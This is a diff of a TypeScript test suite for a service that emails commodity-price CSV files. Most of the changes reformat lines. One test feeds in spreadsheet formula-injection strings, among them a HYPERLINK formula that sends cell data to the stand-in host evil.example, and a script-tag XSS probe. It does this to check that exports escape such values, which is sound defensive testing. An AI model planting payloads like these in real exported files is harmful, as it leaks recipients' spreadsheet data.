@@ -23,7 +23,11 @@ describe('the table of a delivery', () => {
     world.record('EUR_USD', '2026-11-20T14:00:00Z', 1.08424)
     const codes = ['NATURAL_GAS_GBP', 'BRENT_CRUDE_USD', 'GOLD_USD', 'EUR_USD', 'WTI_USD']
     const { file, mail } = await sent(world, { name: 'Morning', commodityCodes: codes })
-    expect(file).toMatchObject({ filename: 'prices-2026-11-20.csv', contentType: 'text/csv; charset=utf-8', encoding: 'utf8' })
+    expect(file).toMatchObject({
+      filename: 'prices-2026-11-20.csv',
+      contentType: 'text/csv; charset=utf-8',
+      encoding: 'utf8',
+    })
     expect(file.content).toBe(
       [
         'code,name,price,currency,unit,observed_at,previous_price,change,change_percent',
@@ -35,7 +39,9 @@ describe('the table of a delivery', () => {
       ].join('\n'),
     )
     expect(mail.subject).toBe('Morning, 2026-11-20')
-    expect(mail.text).toContain('Brent Crude Oil (BRENT_CRUDE_USD): $74.25 per barrel, +0.52 (+0.71 %), observed 2026-11-20T14:00:00Z\n')
+    expect(mail.text).toContain(
+      'Brent Crude Oil (BRENT_CRUDE_USD): $74.25 per barrel, +0.52 (+0.71 %), observed 2026-11-20T14:00:00Z\n',
+    )
     expect(mail.text).toContain('80.50p per therm, -19.50 (-19.50 %), observed')
     expect(mail.text).toContain('(EUR_USD): 1.0842, observed')
     expect(mail.text).toContain('No current price: GOLD_USD.\n')
@@ -64,7 +70,10 @@ describe('the table of a delivery', () => {
     world.record('WTI_USD', '2026-11-18T12:00:00Z', 1)
     world.services.quarantine.add({
       seriesId: world.services.catalogue.named('WTI_USD')!.id,
-      ...{ fromOn: '2026-11-18', toOn: '2026-11-18', reason: 'wrong', createdAt: 0 },
+      fromOn: '2026-11-18',
+      toOn: '2026-11-18',
+      reason: 'wrong',
+      createdAt: 0,
     })
     const { lines } = await sent(world, { commodityCodes: ['WTI_USD'] })
     expect(lines[1]).toEndWith(',60,10.1,16.83')
@@ -84,21 +93,41 @@ describe('the table of a delivery', () => {
     const { catalogue, clock, ingest } = world.services
     const front = catalogue.resolve('BRENT_FUTURES', clock.now())!.code
     const contract = catalogue.resolve(front, clock.now())!
-    ingest.write([{ seriesId: (catalogue.named(front) ?? contract.series).id, observedAt: clock.now() - dayMs, value: 75 }])
+    ingest.write([
+      {
+        seriesId: (catalogue.named(front) ?? contract.series).id,
+        observedAt: clock.now() - dayMs,
+        value: 75,
+      },
+    ])
     const { lines } = await sent(world, { commodityCodes: ['BRENT_FUTURES', front] })
     expect(lines.map(line => line.split(',')[0])).toEqual(['code', front, ''])
   })
 
   test('has names that a spreadsheet does not run', async () => {
     const world = deliveryWorld()
-    const names = ['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '=HYPERLINK("http://evil.example?"&A1,"x")', '<script>alert(1)</script>']
+    const names = [
+      '=1+1',
+      '+1',
+      '-1',
+      '@SUM(A1)',
+      '\t=1',
+      '=HYPERLINK("http://evil.example?"&A1,"x")',
+      '<script>alert(1)</script>',
+    ]
     for (const name of names) {
       world.db.run("UPDATE series SET name = ? WHERE code = 'WTI_USD'", [name])
       world.services.catalogue.reload()
       world.services.board.forgetAll()
       const { file, mail } = await sent(world, { commodityCodes: ['WTI_USD'] })
       const cell = file.content.slice(file.content.indexOf('WTI_USD,') + 8)
-      expect(cell).toStartWith(name.startsWith('<') ? '<script>' : /["\t]/.test(name) ? `"'${name.slice(0, 1)}` : `'${name}`)
+      expect(cell).toStartWith(
+        name.startsWith('<')
+          ? '<script>'
+          : /["\t]/.test(name)
+            ? `"'${name.slice(0, 1)}`
+            : `'${name}`,
+      )
       expect(mail.html).not.toContain('<script>')
     }
   })
@@ -107,14 +136,22 @@ describe('the table of a delivery', () => {
 describe('the letter of a delivery', () => {
   test.each([
     [{ cadence: 'daily' }, 'every day at 07:00 (UTC)'],
-    [{ cadence: 'weekdays', timeZone: 'Asia/Tokyo' }, 'from Monday to Friday at 07:00 (Asia/Tokyo)'],
+    [
+      { cadence: 'weekdays', timeZone: 'Asia/Tokyo' },
+      'from Monday to Friday at 07:00 (Asia/Tokyo)',
+    ],
     [{ cadence: 'weekly', weekday: 7, deliveryTime: '23:45' }, 'every Sunday at 23:45 (UTC)'],
-  ] as [Partial<DeliverySettings>, string][])('of %j says that it goes out %s and how to pause it', async (settings, rhythm) => {
-    const { mail } = await sent(deliveryWorld(), settings)
-    expect(mail.text).toContain(rhythm)
-    expect(mail.text).toMatch(/set "enabled" to false: PATCH \/v1\/scheduled-deliveries\/[0-9a-f-]{36}\n/)
-    expect(mail.text).not.toContain('No current price')
-  })
+  ] as [Partial<DeliverySettings>, string][])(
+    'of %j says that it goes out %s and how to pause it',
+    async (settings, rhythm) => {
+      const { mail } = await sent(deliveryWorld(), settings)
+      expect(mail.text).toContain(rhythm)
+      expect(mail.text).toMatch(
+        /set "enabled" to false: PATCH \/v1\/scheduled-deliveries\/[0-9a-f-]{36}\n/,
+      )
+      expect(mail.text).not.toContain('No current price')
+    },
+  )
 
   test('has one subject and one recipient, whatever stands in the name', async () => {
     const world = deliveryWorld()
